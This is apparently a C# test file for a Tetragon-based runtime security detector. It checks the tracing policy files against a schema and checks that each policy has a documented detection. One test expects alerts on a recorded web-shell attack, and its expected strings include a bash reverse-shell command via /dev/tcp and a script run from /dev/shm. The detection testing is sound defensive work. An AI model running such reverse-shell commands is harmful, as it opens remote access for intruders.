using System.Text.Json;
using Eyrie.Enricher.Detections;
using Eyrie.Enricher.Documents;
using Eyrie.Enricher.Tests.Documents;
using NJsonSchema;
using YamlDotNet.RepresentationModel;

namespace Eyrie.Enricher.Tests.Detections;

/// <summary>The TracingPolicies in <c>deploy/k8s/sensors/tetragon</c> and the detections that go with them.</summary>
public sealed class ShippedPoliciesTests
{
    private static readonly string Root = Path.GetFullPath(Path.Combine(Testing.Samples.Path(), "..", ".."));
    private static readonly string Folder = Path.Combine(Root, "deploy", "k8s", "sensors", "tetragon");

    public static TheoryData<string> Files => [.. PolicyFiles.Select(file => Path.GetRelativePath(Folder, file))];

    private static IEnumerable<string> PolicyFiles => ((string[])["policies", "enforce", "guide"])
        .SelectMany(folder => Directory.GetFiles(Path.Combine(Folder, folder), "*.yaml"))
        .Where(file => Path.GetFileName(file) is not "kustomization.yaml").Order(StringComparer.Ordinal);

    [Theory]
    [MemberData(nameof(Files))]
    public async Task Is_what_Tetragons_schema_allows(string file)
    {
        var schema = JsonDocument.Parse(await File.ReadAllTextAsync(
            Path.Combine(Root, "tests", "Enricher.Tests", "Detections", "tracingpolicy.schema.json"), TestContext.Current.CancellationToken));
        var policy = Json(Load(file));

        var problems = (await JsonSchema.FromJsonAsync(schema.RootElement.GetRawText(), TestContext.Current.CancellationToken)).Validate(policy);

        Assert.Equal("", string.Join('\n', problems.Select(problem => $"{problem.Path}: {problem.Kind}")));
        Assert.Equal("", string.Join('\n', Unknown("spec", JsonDocument.Parse(policy).RootElement.GetProperty("spec"), schema.RootElement.GetProperty("properties").GetProperty("spec"))));
    }

    [Theory]
    [MemberData(nameof(Files))]
    public void Says_of_each_hook_what_it_means_and_whether_it_is_a_system_call(string file)
    {
        foreach (var hook in Hooks(file))
        {
            var call = Text(hook, "call")!;
            Assert.Equal(call.StartsWith("sys_", StringComparison.Ordinal) ? "true" : "false", Text(hook, "syscall"));
            Assert.NotNull(Text(hook, "message"));
            Assert.All(Items(hook, "tags").Select(tag => ((YamlScalarNode)tag).Value!), tag => Assert.False(Mitre.Read([tag]).IsNone, tag));
            Assert.InRange(Items(hook, "tags").Count(), 1, 16);
            Assert.InRange(Items(hook, "args").Count(), 1, 5);
            Assert.InRange(Items(hook, "selectors").Count(), call is "free_module" or "sys_process_vm_writev" ? 0 : 1, 5); // without one each call is an event
            AssertNumbersAreFew(hook);
        }
    }

    [Fact]
    public void Ours_find_in_a_recorded_attack_the_script_in_shared_memory_and_the_shell_that_connects_out()
    {
        var (pipeline, state, found) = (An.Pipeline(), An.State(), new List<Observation>());
        foreach (var told in SampleDocuments.Events("recordings/2-web-shell/tetragon.jsonl", Contracts.SensorFormat.TetragonProtobuf))
        {
            found.AddRange(pipeline.Read(state, SampleDocuments.Map(told)).Alerts().Select(alert => alert.Observation));
        }

        Assert.Equal(
            [
                "Program run from shared memory: /usr/bin/sh ran /dev/shm/x-rec.sh",
                "Shell connected to the network: /usr/bin/sh ran as 0: /usr/bin/sh -c \"timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/18382 0>&1'\"",
                "Shell connected to the network: /usr/bin/bash ran as 0: /usr/bin/bash -c \"bash -i >& /dev/tcp/127.0.0.1/18382 0>&1\"",
            ],
            found.Select(alert => $"{alert.Rule!.Name}: {alert.Message}"));
        Assert.All(found, alert => Assert.Null(alert.Rule!.Policy));
        Assert.Matches("^built-in detections line [0-9]+$", found[0].Rule!.DecidedBy);
    }

    [Fact]
    public void Each_policy_is_named_after_its_file_and_has_a_detection()
    {
        foreach (var file in PolicyFiles)
        {
            var name = Text((YamlMappingNode)Load(file)["metadata"], "name");

            Assert.Equal($"eyrie-{Path.GetFileNameWithoutExtension(file)}", name);
            Assert.Contains(DefaultDetections.Rules, rule => rule.Policy.Pattern == name);
        }
    }

    [Fact]
    public void Each_detection_is_for_a_policy_that_is_shipped_or_needs_none()
    {
        var names = PolicyFiles.Select(file => $"eyrie-{Path.GetFileNameWithoutExtension(file)}").ToHashSet();

        Assert.All(DefaultDetections.Rules, rule => Assert.True(
            names.Contains(rule.Policy.Pattern) || (rule.Policy.Pattern is "*" && (rule.Events & EventWords.Policy) == 0), rule.Name));
        Assert.Equal(DefaultDetections.Rules.Count, DefaultDetections.Rules.Select(rule => rule.Name).Distinct().Count());
    }

    [Fact]
    public void Each_detection_that_is_an_alert_says_what_it_means_and_names_a_technique()
    {
        Assert.All(DefaultDetections.Rules, rule => Assert.NotNull(rule.Description));
        Assert.All(DefaultDetections.Rules.Where(rule => rule.Severity is not null), rule => Assert.True(rule.Output is not null && rule.Techniques.Count > 0, rule.Name));
    }

    [Fact]
    public void The_page_lists_every_detection_with_its_severity()
    {
        var page = File.ReadAllText(Path.Combine(Root, "src", "Enricher", "Detections", "README.md"));

        Assert.All(DefaultDetections.Rules, rule => Assert.Contains(
            $"| {rule.Name} | {(rule.Severity is { } severity ? Contracts.Severities.Word(severity) : "activity")} |", page, StringComparison.Ordinal));
        Assert.All(PolicyFiles, file => Assert.Contains($"eyrie-{Path.GetFileNameWithoutExtension(file)}", page, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("policies")]
    [InlineData("enforce")]
    [InlineData("guide")]
    public void Kustomize_applies_each_of_them(string folder) => Assert.Equal(
        PolicyFiles.Where(file => Path.GetFileName(Path.GetDirectoryName(file)) == folder).Select(Path.GetFileName),
        Items(Load(Path.Combine(Folder, folder, "kustomization.yaml")), "resources").Select(item => ((YamlScalarNode)item).Value).Order(StringComparer.Ordinal));

    /// <summary>Types of what a policy reads of a call, in the order in which its events have them.</summary>
    internal static IReadOnlyList<string> Arguments(string policy, string call) =>
    [
        .. Items(Hooks(PolicyFiles.First(file => Path.GetFileNameWithoutExtension(file) == policy)).First(hook => Text(hook, "call") == call), "args")
            .Select(argument => Text((YamlMappingNode)argument, "type")!),
    ];

    // Tetragon takes four numbers of a filter; of texts and addresses it takes many.
    private static void AssertNumbersAreFew(YamlMappingNode hook)
    {
        var numbers = Items(hook, "args").Cast<YamlMappingNode>()
            .Where(argument => Text(argument, "type") is "int" or "uint32" or "uint64" or "int64").Select(argument => Text(argument, "index")).ToHashSet();
        foreach (var filter in Items(hook, "selectors").Cast<YamlMappingNode>().SelectMany(selector => Items(selector, "matchArgs")).Cast<YamlMappingNode>())
        {
            Assert.Contains(Text(filter, "index"), Items(hook, "args").Cast<YamlMappingNode>().Select(argument => Text(argument, "index")));
            Assert.True(!numbers.Contains(Text(filter, "index")) || Items(filter, "values").Count() <= 4, Text(hook, "call"));
        }
    }

    // The schema of a custom resource says nothing of other keys: Kubernetes drops them in silence.
    private static IEnumerable<string> Unknown(string path, JsonElement value, JsonElement schema)
    {
        if (value.ValueKind is JsonValueKind.Array)
        {
            return value.EnumerateArray().SelectMany(item => Unknown(path, item, schema.GetProperty("items")));
        }

        return value.ValueKind is not JsonValueKind.Object || !schema.TryGetProperty("properties", out var known) ? []
            : value.EnumerateObject().SelectMany(member => known.TryGetProperty(member.Name, out var next)
                ? Unknown($"{path}.{member.Name}", member.Value, next)
                : [$"{path}.{member.Name} is no key"]);
    }

    private static IEnumerable<YamlMappingNode> Hooks(string file) => Items((YamlMappingNode)Load(file)["spec"], "kprobes").Cast<YamlMappingNode>();

    private static IEnumerable<YamlNode> Items(YamlMappingNode node, string key) =>
        node.Children.TryGetValue(key, out var items) ? ((YamlSequenceNode)items).Children : [];

    private static string? Text(YamlMappingNode node, string key) => node.Children.TryGetValue(key, out var value) ? ((YamlScalarNode)value).Value : null;

    private static YamlMappingNode Load(string file)
    {
        var yaml = new YamlStream();
        using var reader = new StreamReader(Path.Combine(Folder, file));
        yaml.Load(reader);
        return (YamlMappingNode)yaml.Documents[0].RootNode;
    }

    // Plain scalars that look like numbers and truth values are such, as YAML has it.
    private static string Json(YamlNode node) => node switch
    {
        YamlMappingNode map => $"{{{string.Join(',', map.Children.Select(member => $"{JsonSerializer.Serialize(((YamlScalarNode)member.Key).Value)}:{Json(member.Value)}"))}}}",
        YamlSequenceNode list => $"[{string.Join(',', list.Children.Select(Json))}]",
        YamlScalarNode { Style: YamlDotNet.Core.ScalarStyle.Plain, Value: { } text } when text is "true" or "false" || int.TryParse(text, out _) => text,
        YamlScalarNode scalar => JsonSerializer.Serialize(scalar.Value),
        _ => "null",
    };
}
